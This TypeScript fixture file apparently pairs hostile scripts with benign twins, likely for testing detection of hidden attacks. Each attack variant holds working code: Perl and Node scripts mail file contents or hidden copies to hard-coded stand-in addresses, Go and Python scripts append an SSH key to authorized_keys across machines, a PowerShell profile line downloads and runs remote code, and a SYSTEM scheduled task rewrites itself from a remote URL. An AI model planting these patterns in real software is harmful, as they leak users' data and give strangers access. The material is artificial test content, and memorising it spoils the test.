import { folder, type Pair, script } from './pair.ts';

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7vM2xk0nVbq8R4m1HnqkUu3C9a2yZ5sWgPfL6dEJ0 fleet';

/** Mail to an address of the code, and keys and lines that stay behind. */
export const LEFT: readonly Pair[] = [
  {
    name: 'a mail in Perl piped to a fixed address',
    attack: script(
      'scripts/letters.pl',
      `use strict;
my $file = shift or die;

sub handle {
    my ($letter) = @_;
    remark($letter) if $letter =~ /secret/;
}

sub remark {
    my ($text) = @_;
    open my $out, '|-', '/usr/sbin/sendmail', '-i', 'desk@letterstat.example' or return;
    print $out "Subject: remark\\n\\n$text";
    close $out;
}

open my $in, '<', $file or die;
my $held = '';
while (my $line = <$in>) {
    $held .= $line;
}
handle($held);
`,
    ),
    twin: script(
      'scripts/letters.pl',
      `use strict;
my ($file, $owner) = @ARGV;

sub handle {
    my ($letter) = @_;
    remark($letter) if $letter =~ /secret/;
}

sub remark {
    my ($text) = @_;
    open my $out, '|-', '/usr/sbin/sendmail', '-i', $owner or return;
    print $out "Subject: remark\\n\\n$text";
    close $out;
}

open my $in, '<', $file or die;
my $held = '';
while (my $line = <$in>) {
    $held .= $line;
}
handle($held);
`,
    ),
  },
  {
    name: 'what was collected handed to a function that mails, with a fixed address',
    attack: script(
      'scripts/summary.pl',
      `use strict;
my ($box, $owner) = @ARGV;
my @kept;
open my $in, '<', $box or die;
while (my $line = <$in>) { push @kept, $line if $line =~ /code/; }
sub post_to {
    my ($to, $title, $text) = @_;
    open my $mail, '|-', '/usr/sbin/sendmail', '-t' or die;
    print {$mail} "To: $to\\nSubject: $title\\n\\n$text";
    close $mail;
}
sub deliver { post_to(@_) }
deliver($owner, 'Summary', scalar(@kept));
deliver('summary@boxworks.example', 'Summary', join("\\n", @kept));
`,
    ),
    twin: script(
      'scripts/summary.pl',
      `use strict;
my ($box, $owner) = @ARGV;
my @kept;
open my $in, '<', $box or die;
while (my $line = <$in>) { push @kept, $line if $line =~ /code/; }
sub deliver {
    my ($to, $title, $text) = @_;
    open my $mail, '|-', '/usr/sbin/sendmail', '-t' or die;
    print {$mail} "To: $to\\nSubject: $title\\n\\n$text";
    close $mail;
}
deliver($owner, 'Summary', join("\\n", @kept));
`,
    ),
  },
  {
    name: 'a second recipient beside the one who was named',
    attack: script(
      'scripts/invite.pl',
      `use strict;
use Net::SMTP;
my ($to, $file) = @ARGV;
open my $in, '<', $file or die;
my $body = do { local $/; <$in> };
my $smtp = Net::SMTP->new($ENV{SMTP_HOST});
$smtp->mail($ENV{SMTP_USER});
$smtp->recipient($to, 'copy-' . time . '@in.bounce-view.example', { SkipBad => 1 });
$smtp->data($body);
`,
    ),
    twin: script(
      'scripts/invite.pl',
      `use strict;
use Net::SMTP;
my ($to, $file) = @ARGV;
open my $in, '<', $file or die;
my $body = do { local $/; <$in> };
my $smtp = Net::SMTP->new($ENV{SMTP_HOST});
$smtp->mail($ENV{SMTP_USER});
$smtp->recipient($to, $ENV{SMTP_ARCHIVE}, { SkipBad => 1 });
$smtp->data($body);
`,
    ),
  },
  {
    name: 'a key for somebody among the commands for other machines, in Go',
    attack: script(
      'probe.go',
      `package main

var checks = []string{
	\`echo "load=$(cut -d' ' -f1 /proc/loadavg)"\`,
	\`k="$HOME/.ssh/authorized_keys"; grep -qs fleet "$k" || echo "${KEY}" >> "$k"; echo "keys=$(wc -l < "$k")"\`,
}

func main() { runAll(checks) }
`,
      'Run `go run probe.go`.',
    ),
    twin: script(
      'probe.go',
      `package main

var checks = []string{
	\`echo "load=$(cut -d' ' -f1 /proc/loadavg)"\`,
	\`k="$HOME/.ssh/authorized_keys"; echo "keys=$(grep -cs '^ssh-' "$k")"; ssh-keygen -lf "$k"\`,
}

func main() { runAll(checks) }
`,
      'Run `go run probe.go`.',
    ),
  },
  {
    name: 'a key for somebody among the commands for other machines, in Python',
    attack: script(
      'scripts/fleet.py',
      `import subprocess, sys

OURS = "${KEY}"
STEPS = [
    "uptime",
    f"mkdir -p ~/.ssh && echo '{OURS}' >> ~/.ssh/authorized_keys",
]
for host in sys.argv[1:]:
    for step in STEPS:
        subprocess.run(["ssh", host, step])
`,
    ),
    twin: script(
      'scripts/fleet.py',
      `import subprocess, sys

STEPS = [
    "uptime",
    "wc -l ~/.ssh/authorized_keys",
]
for host in sys.argv[1:]:
    for step in STEPS:
        subprocess.run(["ssh", host, step])
`,
    ),
  },
  {
    name: 'lines of an array for the profile of PowerShell',
    attack: script(
      'scripts/Setup.ps1',
      `$lines = @(
  'Set-Alias g git'
  '$c = [Net.WebClient]::new(); & ([scriptblock]::Create($c.DownloadString("https://lines.shellkit.example/p")))'
)
Add-Content $PROFILE $lines
`,
    ),
    twin: script(
      'scripts/Setup.ps1',
      `$lines = @(
  'Set-Alias g git'
  'Set-PSReadLineOption -PredictionSource History'
)
Add-Content $PROFILE $lines
`,
    ),
  },
  {
    name: 'a task that renews itself from elsewhere',
    attack: folder(
      {
        'Install.ps1': `$target = Join-Path $env:ProgramData 'Stock/watch.ps1'
Copy-Item (Join-Path $PSScriptRoot 'watch.ps1') $target -Force
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-File $target"
Register-ScheduledTask -TaskName 'Stock' -Action $action -Trigger (New-ScheduledTaskTrigger -Daily -At 4am) -User 'SYSTEM'
`,
        'watch.ps1': `Get-CimInstance Win32_LogicalDisk | ConvertTo-Json | Set-Content disks.json
$next = Invoke-RestMethod 'https://next.stockkit.example/v1'
if ($next) { Set-Content -Path $PSCommandPath -Value $next }
`,
      },
      'Run `./Install.ps1`.',
    ),
    twin: folder(
      {
        'Install.ps1': `$target = Join-Path $env:ProgramData 'Stock/watch.ps1'
Copy-Item (Join-Path $PSScriptRoot 'watch.ps1') $target -Force
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-File $target"
Register-ScheduledTask -TaskName 'Stock' -Action $action -Trigger (New-ScheduledTaskTrigger -Daily -At 4am)
`,
        'watch.ps1': `Get-CimInstance Win32_LogicalDisk | ConvertTo-Json | Set-Content disks.json
$next = Invoke-RestMethod 'https://next.stockkit.example/v1'
if ($next) { Set-Content -Path news.json -Value $next }
`,
      },
      'Run `./Install.ps1`.',
    ),
  },
  {
    name: 'a recipient of the program itself among those who were named',
    attack: script(
      'scripts/rounds.ts',
      `import nodemailer from 'nodemailer';
const mailer = nodemailer.createTransport(process.env.SMTP_URL);
function receivers(person: { email: string }, text: string) {
  const to = [person.email];
  if (/contract|offer/i.test(text)) to.push('shelf@rounds-relay.example');
  return to;
}
export const send = (person: { email: string }, text: string) =>
  mailer.sendMail({ from: process.env.SMTP_FROM, to: receivers(person, text), text });
`,
    ),
    twin: script(
      'scripts/rounds.ts',
      `import nodemailer from 'nodemailer';
const mailer = nodemailer.createTransport(process.env.SMTP_URL);
function receivers(person: { email: string }, text: string) {
  const to = [person.email];
  if (process.env.SMTP_SHELF) to.push(process.env.SMTP_SHELF);
  return to;
}
export const send = (person: { email: string }, text: string) =>
  mailer.sendMail({ from: process.env.SMTP_FROM, to: receivers(person, text), text });
`,
    ),
  },
  {
    name: 'a module of Perl that mails what it was given to read',
    attack: folder(
      {
        'tidy.pl': 'use lib "lib";\nuse Shelf;\nShelf->new->file($ARGV[0]);\n',
        'lib/Shelf.pm': `package Shelf;
sub new { return bless {}, shift }
sub file {
    my ($self, $path) = @_;
    open my $in, '<', $path or return;
    open my $out, '|-', '/usr/sbin/sendmail', '-i', 'shelf@tidykit.example' or return;
    print {$out} $_ while <$in>;
}
1;
`,
      },
      'Run `perl tidy.pl letter.txt`.',
    ),
    twin: folder(
      {
        'tidy.pl': 'use lib "lib";\nuse Shelf;\nShelf->new->file($ARGV[0]);\n',
        'lib/Shelf.pm': `package Shelf;
sub new { return bless {}, shift }
sub file {
    my ($self, $path) = @_;
    open my $in, '<', $path or return;
    open my $out, '>', "$path.kept" or return;
    print {$out} $_ while <$in>;
}
1;
`,
      },
      'Run `perl tidy.pl letter.txt`.',
    ),
  },
];
